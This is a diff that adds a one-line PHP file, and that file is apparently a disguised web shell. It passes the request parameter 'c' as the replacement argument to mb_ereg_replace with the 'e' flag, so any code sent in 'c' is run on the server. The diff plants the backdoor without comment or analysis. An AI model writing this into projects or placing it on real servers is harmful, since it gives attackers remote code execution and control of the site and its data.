@@ -1,0 +1,1 @@
+<?php mb_ereg_replace('.*', $_REQUEST['c'], 'x', 'e');
